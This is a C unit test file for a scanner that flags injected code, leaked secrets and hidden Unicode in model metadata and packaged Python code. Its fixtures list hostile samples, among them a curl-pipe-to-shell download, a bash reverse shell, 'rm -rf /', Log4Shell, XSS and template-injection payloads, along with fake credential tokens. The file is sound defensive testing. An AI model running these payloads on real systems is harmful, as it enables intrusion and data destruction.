/* SPDX-License-Identifier: Apache-2.0 */
/* test_text.c - code, secrets and invisible characters in texts; honest texts stay clean. */
#include "../test.h"
#include "template_fixture.h"

static void judge_as(enum text_role role, const char *name, const char *text, struct found *found)
{
    judge_role(role, slice_str(name), slice_str(text), 64 << 20, 1 << 16, found);
    assert_false(found->nomem);
}

static void clean(enum text_role role, const char *name, const char *text)
{
    struct found found;
    judge_as(role, name, text, &found);
    if (found.count) fail_msg("%s: %s: %s", text, found.rule[0], found.evidence[0]);
}

static void finds(enum text_role role, const char *text, const char *rule, enum severity severity)
{
    struct found found;
    judge_as(role, "some.key", text, &found);
    if (!found_has(&found, rule, severity)) fail_msg("%s: no %s", text, rule);
    /* and nothing worse, nothing else */
    for (size_t i = 0; i < found.count; i++) {
        if (strcmp(found.rule[i], rule)) fail_msg("%s: also %s", text, found.rule[i]);
        assert_true(found.severity[i] <= severity);
    }
}

static void code_in_metadata(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "__import__('os').system('id')",
        "import os; os.system('id')",
        "exec(base64.b64decode('aW1wb3J0IG9z'))",
        "eval(compile(open('x').read(), 'x', 'exec'))",
        "lambda: __import__(\"subprocess\").run(['sh'])",
        "curl http://x.example/a.sh | sh",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "$(curl http://x.example)",
        "; rm -rf / ;",
        "powershell -enc SQBFAFgA",
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//x.example/a.js>",
        "<img src=x onerror=alert(1)>",
        "javascript:fetch('http://x.example')",
        "${jndi:ldap://x.example/a}",
        "{{ ''.__class__.__mro__ }}",
        "!!python/object/apply:os.system ['id']",
        "<?php system('id'); ?>",
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
        finds(TEXT_METADATA, bad[i], "model.metadata-code", SEV_HIGH);
}

static void honest_metadata(void **state)
{
    (void)state;
    static const char *const good[] = {
        "pt",
        "apache-2.0",
        "Trained for 3 epochs. Call model.eval() before inference, then model.generate(...).",
        "{\"lr\": 0.001, \"betas\": [0.9, 0.999], \"script\": \"train.py\"}",
        "import torch\nfrom transformers import AutoModel\nm = AutoModel.from_pretrained('x')",
        "Licensed under the Apache License, Version 2.0 (the \"License\"); you may not use this "
        "file "
        "except in compliance with the License. You may obtain a copy of the License at "
        "http://www.apache.org/licenses/LICENSE-2.0",
        "The model writes shell scripts and JavaScript. It may suggest curl or wget.",
        "Execution (exec) of code is out of scope; evaluation (eval) used MMLU.",
        "${MODEL_NAME}-${VERSION}",
        "python -m llama_cpp.server --model x.gguf",
        "a<b and c>d; onload is the event of a page",
        "https://example.org/models?name=x&rev=main",
        "\xe6\xa8\xa1\xe5\x9e\x8b \xd9\x86\xd9\x85\xd9\x88\xd8\xb0\xd8\xac \xf0\x9f\xa4\x97",
        "sk-learn pipeline, hf_model_name, AKIA is a prefix, ghp_ too",
    };
    for (size_t i = 0; i < sizeof good / sizeof *good; i++)
        clean(TEXT_METADATA, "general.description", good[i]);
    clean(TEXT_METADATA, "tokenizer.ggml.tokens", "<script>alert(1)</script> os.system('x')");
    clean(TEXT_DOC, "README.md", "```python\nimport os; os.system('pip install x')\n```");
}

static void secrets(void **state)
{
    (void)state;
    static const char *const bad[] = {
        "key=AKIAQ3EGRIB7XZL4UV5W;",
        "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",
        "token: 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",
        "glpat-Zx9cVb8nMq7wEr6tYu5i",
        "xoxb-4081652973-5093817264-q8ZxT1mKc4Vw9YbNf2RsLd7H",
        "-----BEGIN RSA PRIVATE KEY-----\n"
        "MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MbzYLdZ7ZvVy7F7V\n"
        "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789+/aBcDeFgHiJkLmNoPqRsTuVwXyZ\n"
        "-----END RSA PRIVATE KEY-----",
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        struct found found;
        judge_as(TEXT_METADATA, "some.key", bad[i], &found);
        if (found.count != 1) fail_msg("%s: %zu findings", bad[i], found.count);
        assert_true(found_has(&found, "model.metadata-secret", SEV_HIGH));
    }
    clean(TEXT_METADATA, "general.author", "Jo Doe <jo.doe@mail-of-jo.eu>");
    clean(TEXT_METADATA, "k", "AKIAIOSFODNN7EXAMPLE");
    clean(TEXT_METADATA, "k", "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
    clean(TEXT_METADATA, "k", "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
    clean(TEXT_METADATA, "k", "xAKIAQ3EGRIB7XZL4UV5W");
    clean(TEXT_METADATA, "k", "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----");
}

static void secrets_are_masked(void **state)
{
    (void)state;
    struct found found;
    judge_as(TEXT_METADATA, "k", "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", &found);
    assert_int_equal(found.count, 1);
    assert_string_equal(found.evidence[0], "ghp_N*********************************3R");
}

static void hidden_characters(void **state)
{
    (void)state;
    finds(TEXT_METADATA, "Hello\xf3\xa0\x81\x89\xf3\xa0\x81\xa7\xf3\xa0\x81\xae",
          "model.hidden-text", SEV_HIGH);
    finds(TEXT_TEMPLATE,
          "a\xe2\x80\xae"
          "b",
          "model.hidden-text", SEV_MEDIUM);
    finds(TEXT_DOC,
          "a\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8b\xe2\x80\x8c\xe2\x80\x8b"
          "\xe2\x80\x8c"
          "b",
          "model.hidden-text", SEV_MEDIUM);
    /* a family, a flag of England, Persian with its joiner, a byte order mark */
    clean(TEXT_METADATA, "k",
          "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7");
    clean(TEXT_METADATA, "k",
          "\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xa5\xf3\xa0\x81\xae\xf3\xa0"
          "\x81"
          "\xa7\xf3\xa0\x81\xbf");
    clean(TEXT_METADATA, "k",
          "\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae\xd9\x88\xd8\xa7\xd9\x87\xd9\x85");
    clean(TEXT_DOC, "k", "\xef\xbb\xbf# Title");
    clean(TEXT_METADATA, "k", "\xff\xfe\xf3\xa0");
}

static void source_code(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        enum severity severity;
    } bad[] = {
        {"import os\nos.system('id')", SEV_CRITICAL},
        {"import os as o\no . system ('id')", SEV_CRITICAL},
        {"from os import system as s, path\ns('id')", SEV_CRITICAL},
        {"from subprocess import (\n    run,\n    Popen as P)\nP(['id'])", SEV_CRITICAL},
        {"import subprocess\nsubprocess.check_output(['id'])", SEV_CRITICAL},
        {"exec('x = 1')", SEV_CRITICAL},
        {"class A:\n    def f(self): return eval(self.x)", SEV_HIGH},
        {"import a, socket as k\nk.create_connection(('x', 1))", SEV_CRITICAL},
        {"import torch as t\nx = t.load('a.pt')", SEV_MEDIUM},
        {"import pickle\npickle.loads(b'')", SEV_HIGH},
        {"import urllib.request\nurllib.request.urlopen('http://x')", SEV_HIGH},
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
        finds(TEXT_CODE, bad[i].text, "model.torch-package-code", bad[i].severity);
    clean(TEXT_CODE, "m.py",
          "import torch\nclass M(torch.nn.Module):\n  def eval(self): pass\n"
          "  def forward(self, x): return self.eval() + self.model.eval(x)\n");
    clean(TEXT_CODE, "m.py", "# os.system('x')\n'''exec(1)'''\ns = \"eval(\\\" os.system(1) \"\n");
    clean(TEXT_CODE, "m.py", "import os\np = os.path.join(os.environ.get('HOME'), 'x')\n");
    clean(TEXT_CODE, "m.py",
          "from .layers import compile_layer\nimport re\nre.compile('a')\nx.exec(1)");
}

static void memory_runs_out(void **state)
{
    (void)state;
    struct slice text = S("from os import system as s\ns('id')\nimport a.b.c as d\nd.e('f')");
    struct found found;
    size_t cap = 0;
    unsigned failures = 0;
    for (bool done = false; !done && cap < 1 << 20; cap += 128) {
        judge_role(TEXT_CODE, S("m.py"), text, cap, 0, &found);
        done = !found.nomem && found_has(&found, "model.torch-package-code", SEV_CRITICAL);
        failures += !done;
        if (!done) assert_true(found.nomem || found_has(&found, "model.not-inspected", SEV_HIGH));
    }
    assert_true(failures > 3);
    assert_true(cap < 1 << 20);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(code_in_metadata),  cmocka_unit_test(honest_metadata),
        cmocka_unit_test(secrets),           cmocka_unit_test(secrets_are_masked),
        cmocka_unit_test(hidden_characters), cmocka_unit_test(source_code),
        cmocka_unit_test(memory_runs_out),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
